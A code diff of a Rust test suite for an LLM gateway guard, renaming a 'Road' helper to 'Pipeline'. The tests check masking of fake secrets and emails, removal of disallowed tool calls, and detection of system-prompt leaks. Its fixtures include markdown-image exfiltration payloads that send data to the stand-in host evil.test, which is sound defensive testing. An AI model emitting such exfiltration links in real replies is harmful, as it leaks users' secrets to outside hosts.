@@ -4,7 +4,7 @@
 
 mod common;
 
-use common::road::{Answer, Road, ask};
+use common::pipeline::{Answer, Pipeline, ask};
 use proptest::prelude::*;
 use serde_json::{Value, json};
 
@@ -12,8 +12,8 @@ const KEY: &str = "AKIAQ7EXAMPL3TE5TKXQ";
 const JSON: &str = "application/json";
 const SSE: &str = "text/event-stream; charset=utf-8";
 
-fn road(output: Value) -> Road {
-    Road::new(|document| document["guards"]["standard"] = json!({ "pii": { "action": "flag" }, "output": output }))
+fn pipeline(output: Value) -> Pipeline {
+    Pipeline::new(|document| document["guards"]["standard"] = json!({ "pii": { "action": "flag" }, "output": output }))
 }
 
 fn whole(text: &str) -> Vec<u8> {
@@ -63,7 +63,7 @@ fn content(answer: &Answer) -> String {
 #[test]
 fn a_whole_reply_is_masked_flagged_or_refused() {
     let text = format!("Use {KEY} or write to jane@example.org.");
-    let (_, answer) = road(json!({})).answered(&ask("hi"), JSON, &[&whole(&text)]);
+    let (_, answer) = pipeline(json!({})).answered(&ask("hi"), JSON, &[&whole(&text)]);
     assert_eq!(content(&answer), "Use [SECRET_1] or write to jane@example.org.");
     assert_eq!(answer.record["bartizan.verdict"], "mask");
     assert_eq!(answer.record["gen_ai.usage.output_tokens"], 4);
@@ -73,10 +73,10 @@ fn a_whole_reply_is_masked_flagged_or_refused() {
         answer.record["bartizan.findings"].as_array().unwrap().iter().map(|f| f["action"].as_str().unwrap()).collect();
     assert_eq!(actions, ["mask", "flag"]);
 
-    let (_, answer) = road(json!({ "pii": "hash" })).answered(&ask("hi"), JSON, &[&whole(&text)]);
+    let (_, answer) = pipeline(json!({ "pii": "hash" })).answered(&ask("hi"), JSON, &[&whole(&text)]);
     assert!(content(&answer).contains("[EMAIL_h"), "{}", content(&answer));
 
-    let (_, answer) = road(json!({ "secrets": "block" })).answered(&ask("hi"), JSON, &[&whole(&text)]);
+    let (_, answer) = pipeline(json!({ "secrets": "block" })).answered(&ask("hi"), JSON, &[&whole(&text)]);
     assert_eq!(answer.status(), "400");
     assert!(answer.text().contains("content_filter") && !answer.text().contains(KEY));
     assert_eq!(answer.record["bartizan.reason"], "scan.secret");
@@ -84,12 +84,12 @@ fn a_whole_reply_is_masked_flagged_or_refused() {
 
 #[test]
 fn weak_mode_refuses_in_the_body() {
-    let mut road = Road::new(|document| {
+    let mut pipeline = Pipeline::new(|document| {
         document["holdHeaders"] = json!(false);
         document["audit"] = json!({});
         document["guards"]["standard"] = json!({ "output": { "secrets": "block" } });
     });
-    let (_, answer) = road.answered(&ask("hi"), JSON, &[&whole(&format!("Use {KEY}."))]);
+    let (_, answer) = pipeline.answered(&ask("hi"), JSON, &[&whole(&format!("Use {KEY}."))]);
     assert_eq!(answer.status(), "200");
     assert!(answer.text().contains("content_filter") && !answer.text().contains(KEY));
     assert!(answer.headers.remove.contains(&b"content-length".to_vec()));
@@ -98,7 +98,7 @@ fn weak_mode_refuses_in_the_body() {
 #[test]
 fn a_reply_without_findings_is_not_touched() {
     let odd = b"{ \"choices\" : [ {\"index\":0 ,\"message\":{\"content\":\"caf\\u00e9 \\/ 1.50\"}} ] , \"x\":1.0e2 }\n";
-    let (_, answer) = road(json!({})).answered(&ask("hi"), JSON, &[odd]);
+    let (_, answer) = pipeline(json!({})).answered(&ask("hi"), JSON, &[odd]);
     assert_eq!(answer.body, odd);
     assert_eq!(answer.record["bartizan.verdict"], "allow");
 }
@@ -112,7 +112,7 @@ fn what_can_not_be_read_does_not_pass() {
         ("text/html", b"<p>hello"),
         (SSE, b"data: {broken\n\n"),
     ] {
-        let (_, answer) = road(json!({})).answered(&ask("hi"), content_type, &[body]);
+        let (_, answer) = pipeline(json!({})).answered(&ask("hi"), content_type, &[body]);
         assert!(!answer.text().contains("broken") && !answer.text().contains("hello"), "{}", answer.text());
         assert_eq!(answer.record["bartizan.reason"], "reply.unreadable", "{content_type}");
     }
@@ -120,12 +120,12 @@ fn what_can_not_be_read_does_not_pass() {
 
 #[test]
 fn a_reply_that_is_too_large_is_refused_and_the_rest_dropped() {
-    let mut road = Road::new(|document| document["limits"] = json!({ "maxResponseBytes": 2000 }));
+    let mut pipeline = Pipeline::new(|document| document["limits"] = json!({ "maxResponseBytes": 2000 }));
     let long = whole(&"word ".repeat(1000));
-    let (_, answer) = road.answered(&ask("hi"), JSON, &[&long]);
+    let (_, answer) = pipeline.answered(&ask("hi"), JSON, &[&long]);
     assert_eq!((answer.status(), &answer.record["bartizan.reason"]), ("502", &json!("reply.tooLarge")));
     let event = stream(&[&"word ".repeat(1000)]);
-    let (_, answer) = road.answered(&ask("hi"), SSE, &[&event]);
+    let (_, answer) = pipeline.answered(&ask("hi"), SSE, &[&event]);
     assert_eq!(read(&answer).1, "content_filter done");
     assert_eq!(answer.record["bartizan.reason"], "reply.tooLarge");
 }
@@ -135,7 +135,7 @@ fn tools_that_the_role_may_not_call_are_cut_out() {
     let call = |name: &str| json!({ "id": name, "type": "function", "function": { "name": name, "arguments": "{}" } });
     let reply = json!({ "choices": [{ "index": 0, "finish_reason": "tool_calls",
         "message": { "role": "assistant", "content": null, "tool_calls": [call("search_web"), call("delete_all")] } }] });
-    let (_, answer) = road(json!({})).answered(&ask("hi"), JSON, &[reply.to_string().as_bytes()]);
+    let (_, answer) = pipeline(json!({})).answered(&ask("hi"), JSON, &[reply.to_string().as_bytes()]);
     let body: Value = serde_json::from_slice(&answer.body).unwrap();
     assert_eq!(body["choices"][0]["message"]["tool_calls"], json!([call("search_web")]));
 
@@ -148,7 +148,7 @@ fn tools_that_the_role_may_not_call_are_cut_out() {
         &event(&json!({ "tool_calls": [{ "index": 0, "function": { "arguments": "{\"x\":1}" } }] }), &Value::Null);
     events += &event(&json!({}), &json!("tool_calls"));
     events += "data: [DONE]\n\n";
-    let (_, answer) = road(json!({})).answered(&ask("hi"), SSE, &[events.as_bytes()]);
+    let (_, answer) = pipeline(json!({})).answered(&ask("hi"), SSE, &[events.as_bytes()]);
     assert!(!answer.text().contains("delete_all") && !answer.text().contains("x\\\":1"), "{}", answer.text());
     assert_eq!(read(&answer).1, "stop done");
 }
@@ -158,16 +158,16 @@ fn images_links_and_scripts_follow_the_policy() {
     let text =
         "Look: ![x](https://evil.test/p.png?d=secret) <script>x()</script> and ![y](https://docs.example.org/a.png)";
     let output = json!({ "exfiltration": "remove", "script": "remove", "allowHosts": ["docs.example.org"] });
-    let (_, answer) = road(output.clone()).answered(&ask("hi"), JSON, &[&whole(text)]);
+    let (_, answer) = pipeline(output.clone()).answered(&ask("hi"), JSON, &[&whole(text)]);
     assert_eq!(content(&answer), "Look: [removed] [removed]x()</script> and ![y](https://docs.example.org/a.png)");
     let pieces: Vec<String> = text.chars().map(String::from).collect();
     let pieces: Vec<&str> = pieces.iter().map(String::as_str).collect();
-    let (_, streamed) = road(output).answered(&ask("hi"), SSE, &[&stream(&pieces)]);
+    let (_, streamed) = pipeline(output).answered(&ask("hi"), SSE, &[&stream(&pieces)]);
     assert_eq!(read(&streamed).0, content(&answer));
-    let (_, answer) = road(json!({ "exfiltration": "block" })).answered(&ask("hi"), SSE, &[&stream(&pieces)]);
+    let (_, answer) = pipeline(json!({ "exfiltration": "block" })).answered(&ask("hi"), SSE, &[&stream(&pieces)]);
     assert_eq!(read(&answer), ("Look: ".to_owned(), "content_filter done".to_owned()));
     assert_eq!(answer.record["bartizan.reason"], "scan.output");
-    let (_, answer) = road(json!({})).answered(&ask("hi"), SSE, &[&stream(&pieces)]);
+    let (_, answer) = pipeline(json!({})).answered(&ask("hi"), SSE, &[&stream(&pieces)]);
     assert_eq!(read(&answer).0, text);
     assert_eq!(answer.record["bartizan.findings"][0]["rule"], "output.exfiltration");
 }
@@ -177,13 +177,13 @@ fn a_secret_is_masked_across_every_boundary() {
     for secret in [KEY, "ghp_R4nd0mT0kenThatIsNotReal1234567890AB", "postgres://app:Xq7mZ2vLw9Rt@db.internal:5432/x"] {
         let text = format!("The key is {secret} as you asked. Anything else?");
         let expected = {
-            let (_, answer) = road(json!({})).answered(&ask("hi"), JSON, &[&whole(&text)]);
+            let (_, answer) = pipeline(json!({})).answered(&ask("hi"), JSON, &[&whole(&text)]);
             content(&answer)
         };
         assert!(!expected.contains(secret) && expected.contains("[SECRET_1]"), "{expected}");
-        let mut road = road(json!({}));
+        let mut pipeline = pipeline(json!({}));
         for cut in 0..=text.len() {
-            let (_, answer) = road.answered(&ask("hi"), SSE, &[&stream(&[&text[..cut], &text[cut..]])]);
+            let (_, answer) = pipeline.answered(&ask("hi"), SSE, &[&stream(&[&text[..cut], &text[cut..]])]);
             assert_eq!(read(&answer), (expected.clone(), "stop done".to_owned()), "{cut}");
         }
     }
@@ -206,7 +206,7 @@ fn a_stream_is_asked_for_its_counts_and_the_client_sees_none_it_did_not_ask_for(
         }
         ask
     };
-    let mut asked = Road::new(|document| document["audit"]["usage"] = json!(true));
+    let mut asked = Pipeline::new(|document| document["audit"]["usage"] = json!(true));
     for (options, sees) in
         [(Value::Null, false), (json!({ "include_usage": false }), false), (json!({ "include_usage": true }), true)]
     {
@@ -220,7 +220,7 @@ fn a_stream_is_asked_for_its_counts_and_the_client_sees_none_it_did_not_ask_for(
         assert_eq!(answer.record["bartizan.verdict"], "allow");
     }
     // Without the switch nothing is asked, and what comes is passed on.
-    let (sent, answer) = road(json!({})).answered(&asking(Value::Null), SSE, &[&with]);
+    let (sent, answer) = pipeline(json!({})).answered(&asking(Value::Null), SSE, &[&with]);
     assert!(!String::from_utf8(sent).unwrap().contains("stream_options"));
     assert_eq!(answer.body, with);
     // A reply that is no stream is not asked for.
@@ -230,41 +230,42 @@ fn a_stream_is_asked_for_its_counts_and_the_client_sees_none_it_did_not_ask_for(
 
 #[test]
 fn ordinary_words_do_not_wait_for_each_other() {
-    let mut road = road(json!({}));
+    let mut pipeline = pipeline(json!({}));
     let events = stream(&["The ", "castle ", "has ", "two ", "towers."]);
     let first_three: Vec<&[u8]> = events.split_inclusive(|byte| *byte == b'\n').collect();
     // The first eight lines: the role, and three words with their empty lines.
     let some: Vec<u8> = first_three[..8].concat();
-    let (_, answer) = road.answered(&ask("hi"), SSE, &[&some]);
+    let (_, answer) = pipeline.answered(&ask("hi"), SSE, &[&some]);
     assert_eq!(read(&answer).0, "The castle has ");
 }
 
 #[test]
 fn masked_values_come_back_to_the_one_who_sent_them() {
-    let mut road = Road::new(|document| document["guards"]["standard"] = json!({ "pii": { "action": "restore" } }));
+    let mut pipeline =
+        Pipeline::new(|document| document["guards"]["standard"] = json!({ "pii": { "action": "restore" } }));
     let text = "Write a letter to jane@example.org please.";
-    let (sent, _) = road.answered(&ask(text), JSON, &[&whole("ok")]);
+    let (sent, _) = pipeline.answered(&ask(text), JSON, &[&whole("ok")]);
     let sent: Value = serde_json::from_slice(&sent).unwrap();
     let asked = sent["messages"][0]["content"].as_str().unwrap();
     assert!(asked.contains("[EMAIL_r") && !asked.contains("jane@"), "{asked}");
     let placeholder = &asked[asked.find('[').unwrap()..=asked.find(']').unwrap()];
     let reply = format!("Dear {placeholder}, see ![x](https://evil.test/?{placeholder}).");
-    let (_, answer) = road.answered(&ask(text), JSON, &[&whole(&reply)]);
+    let (_, answer) = pipeline.answered(&ask(text), JSON, &[&whole(&reply)]);
     assert_eq!(content(&answer), format!("Dear jane@example.org, see ![x](https://evil.test/?{placeholder})."));
     for cut in 0..=reply.len() {
-        let (_, streamed) = road.answered(&ask(text), SSE, &[&stream(&[&reply[..cut], &reply[cut..]])]);
+        let (_, streamed) = pipeline.answered(&ask(text), SSE, &[&stream(&[&reply[..cut], &reply[cut..]])]);
         assert_eq!(read(&streamed).0, content(&answer), "{cut}");
     }
     // Another conversation knows nothing of it, and what a client sends in that form comes back as it was.
-    let (_, other) = road.answered(&ask("hello"), JSON, &[&whole(&reply)]);
+    let (_, other) = pipeline.answered(&ask("hello"), JSON, &[&whole(&reply)]);
     assert_eq!(content(&other), reply);
-    let (sent, _) = road.answered(&ask(&format!("what is {placeholder}?")), JSON, &[&whole("ok")]);
+    let (sent, _) = pipeline.answered(&ask(&format!("what is {placeholder}?")), JSON, &[&whole("ok")]);
     assert!(!String::from_utf8(sent).unwrap().contains(placeholder));
 }
 
-/// A road to every protocol, with a canary.
-fn canary_road(action: &str) -> Road {
-    Road::new(|document| {
+/// A pipeline to every protocol, with a canary.
+fn canary_pipeline(action: &str) -> Pipeline {
+    Pipeline::new(|document| {
         document["guards"]["standard"] = json!({ "output": { "canary": action } });
         let operations = json!(["chat", "responses", "generate"]);
         document["roles"]["analyst"]["operations"] = operations;
@@ -305,9 +306,9 @@ fn a_leaked_system_prompt_is_cut_out_flagged_or_refused() {
         for (action, finish, reason) in
             [("remove", "stop done", Value::Null), ("block", "content_filter done", json!("scan.canary"))]
         {
-            let mut road = canary_road(action);
+            let mut pipeline = canary_pipeline(action);
             let mut token = String::new();
-            let (_, answer) = road.answered_at(path, &ask, SSE, |sent| {
+            let (_, answer) = pipeline.answered_at(path, &ask, SSE, |sent| {
                 token = token_in(sent, "/messages/0/content");
                 let said = said(sent);
                 let pieces: Vec<String> = said.chars().map(String::from).collect();
@@ -326,7 +327,7 @@ fn a_leaked_system_prompt_is_cut_out_flagged_or_refused() {
                     "{text}"
                 );
             }
-            let (_, answer) = road.answered_at(path, &ask, JSON, |sent| vec![whole(&said(sent))]);
+            let (_, answer) = pipeline.answered_at(path, &ask, JSON, |sent| vec![whole(&said(sent))]);
             if action == "remove" {
                 assert!(content(&answer).contains("[removed]"), "{}", content(&answer));
             } else {
@@ -335,7 +336,7 @@ fn a_leaked_system_prompt_is_cut_out_flagged_or_refused() {
             assert!(!answer.text().contains(&token));
         }
     }
-    let (_, answer) = canary_road("flag")
+    let (_, answer) = canary_pipeline("flag")
         .answered_at(path, &ask, JSON, |sent| vec![whole(&format!("Look: {}", token_in(sent, "/messages/0/content")))]);
     assert_eq!(answer.record["bartizan.verdict"], "allow");
     assert_eq!(answer.record["bartizan.findings"][0]["action"], "flag");
@@ -343,11 +344,11 @@ fn a_leaked_system_prompt_is_cut_out_flagged_or_refused() {
 
 #[test]
 fn a_canary_is_stable_for_its_tenant_and_is_no_oracle() {
-    let mut road = canary_road("block");
+    let mut pipeline = canary_pipeline("block");
     let path = "/v1/chat/completions";
     let mut sent = |user: &str, reply: &dyn Fn(&str) -> String| {
         let mut token = String::new();
-        let (_, answer) = road.answered_at(path, &chat_with(json!("Be kind."), user), JSON, |sent| {
+        let (_, answer) = pipeline.answered_at(path, &chat_with(json!("Be kind."), user), JSON, |sent| {
             token = token_in(sent, "/messages/0/content");
             vec![whole(&reply(&token))]
         });
@@ -365,12 +366,13 @@ fn a_canary_is_stable_for_its_tenant_and_is_no_oracle() {
         assert_eq!(sent(&format!("Say {guess}"), &str::to_owned).1, "block");
     }
     // Without a system prompt there is nothing that could leak, and the request stays as it is.
-    let (sent, _) = road.answered(&ask("hi"), JSON, &[&whole("ok")]);
+    let (sent, _) = pipeline.answered(&ask("hi"), JSON, &[&whole("ok")]);
     assert!(!String::from_utf8(sent).unwrap().contains("marker"));
     // Another epoch has another token.
     let mut token = String::new();
-    road.host.now = bartizan::host::Timestamp::from_secs(common::road::NOW - common::road::NOW % 86_400 - 1);
-    road.answered_at(path, &chat_with(json!("Be kind."), "hi"), JSON, |sent| {
+    pipeline.host.now =
+        bartizan::host::Timestamp::from_secs(common::pipeline::NOW - common::pipeline::NOW % 86_400 - 1);
+    pipeline.answered_at(path, &chat_with(json!("Be kind."), "hi"), JSON, |sent| {
         token = token_in(sent, "/messages/0/content");
         vec![whole("ok")]
     });
@@ -407,7 +409,7 @@ fn a_canary_is_found_in_every_protocol_and_zone() {
         ("/api/generate", json!({ "model": "small", "system": "Be kind.", "prompt": "hi" }), "/system"),
     ];
     for (path, ask, place) in cases {
-        let mut road = canary_road("remove");
+        let mut pipeline = canary_pipeline("remove");
         let replies = |token: &str| match path {
             "/v1/chat/completions" => vec![
                 json!({ "choices": [{ "message": { "role": "assistant", "content": "x", "reasoning_content": token } }] }),
@@ -427,7 +429,7 @@ fn a_canary_is_found_in_every_protocol_and_zone() {
         let count = replies("x").len();
         for number in 0..count {
             let mut token = String::new();
-            let (_, answer) = road.answered_at(path, &ask, JSON, |sent| {
+            let (_, answer) = pipeline.answered_at(path, &ask, JSON, |sent| {
                 token = token_in(sent, place);
                 vec![replies(&token)[number].to_string().into_bytes()]
             });
@@ -436,7 +438,7 @@ fn a_canary_is_found_in_every_protocol_and_zone() {
     }
     // A provider that says the instructions again gives the client its own back.
     let ask = json!({ "model": "small", "input": "hi", "instructions": "Be kind." });
-    let (_, answer) = canary_road("block").answered_at("/v1/responses", &ask, JSON, |sent| {
+    let (_, answer) = canary_pipeline("block").answered_at("/v1/responses", &ask, JSON, |sent| {
         vec![json!({ "instructions": sent["instructions"], "output": [] }).to_string().into_bytes()]
     });
     assert_eq!(serde_json::from_slice::<Value>(&answer.body).unwrap()["instructions"], "Be kind.");
@@ -460,7 +462,7 @@ fn a_thousand_streams_cut_anywhere_give_no_secret_away() {
         [KEY, "ghp_R4nd0mT0kenThatIsNotReal1234567890AB", "postgres://app:Xq7mZ2vLw9Rt@db.internal:5432/x"];
     const WORDS: [&str; 8] =
         ["the ", "castle ", "has ", "12 towers, ", "and a café. ", "北の塔 ", "Nobody ", "knows: "];
-    let mut road = Road::new(|document| document["roles"]["analyst"]["quotas"] = json!([]));
+    let mut pipeline = Pipeline::new(|document| document["roles"]["analyst"]["quotas"] = json!([]));
     let mut dice = Dice(7);
     let mut places = std::collections::BTreeSet::new();
     for number in 0..1000 {
@@ -485,8 +487,8 @@ fn a_thousand_streams_cut_anywhere_give_no_secret_away() {
         cuts.extend([0, (at + place).min(events.len()), events.len()]);
         cuts.sort_unstable();
         let chunks: Vec<&[u8]> = cuts.windows(2).map(|pair| &events[pair[0]..pair[1]]).collect();
-        let (_, answer) = road.answered(&ask("hi"), SSE, &chunks);
-        let (_, whole) = road.answered(&ask("hi"), JSON, &[&whole(&text)]);
+        let (_, answer) = pipeline.answered(&ask("hi"), SSE, &chunks);
+        let (_, whole) = pipeline.answered(&ask("hi"), JSON, &[&whole(&text)]);
         let expected = content(&whole);
         assert!(!expected.contains(secret) && expected.contains("[SECRET_1]"), "{expected}");
         assert_eq!(read(&answer), (expected, "stop done".to_owned()), "stream {number}");
@@ -495,7 +497,7 @@ fn a_thousand_streams_cut_anywhere_give_no_secret_away() {
 }
 
 /// Compiling the rules takes longer than a case.
-static ROAD: std::sync::LazyLock<std::sync::Mutex<Road>> = std::sync::LazyLock::new(|| road(json!({})).into());
+static ROAD: std::sync::LazyLock<std::sync::Mutex<Pipeline>> = std::sync::LazyLock::new(|| pipeline(json!({})).into());
 
 proptest! {
     #![proptest_config(ProptestConfig { max_shrink_iters: 200, ..ProptestConfig::with_cases(40) })]
@@ -513,7 +515,7 @@ proptest! {
         bytes in prop::collection::vec(any::<prop::sample::Index>(), 0..20),
     ) {
         let text = words.concat();
-        let mut road = ROAD.lock().unwrap_or_else(std::sync::PoisonError::into_inner);
+        let mut pipeline = ROAD.lock().unwrap_or_else(std::sync::PoisonError::into_inner);
         let split = |places: &[prop::sample::Index], length: usize, floor: &dyn Fn(usize) -> usize| {
             let mut at: Vec<usize> = places.iter().map(|place| floor(place.index(length + 1))).collect();
             at.extend([0, length]);
@@ -525,7 +527,7 @@ proptest! {
         let events = stream(&pieces);
         let at = split(&bytes, events.len(), &|place| place);
         let chunks: Vec<&[u8]> = at.windows(2).map(|pair| &events[pair[0]..pair[1]]).collect();
-        let (_, answer) = road.answered(&ask("hi"), SSE, &chunks);
+        let (_, answer) = pipeline.answered(&ask("hi"), SSE, &chunks);
         let (masked, finish) = read(&answer);
         prop_assert_eq!(finish, "stop done");
         if text.contains(KEY) {
@@ -533,7 +535,7 @@ proptest! {
         } else if answer.record["bartizan.verdict"] == "allow" {
             prop_assert_eq!(answer.body, events);
         }
-        let (_, whole) = road.answered(&ask("hi"), JSON, &[&whole(&text)]);
+        let (_, whole) = pipeline.answered(&ask("hi"), JSON, &[&whole(&text)]);
         prop_assert_eq!(masked, content(&whole));
     }
 }
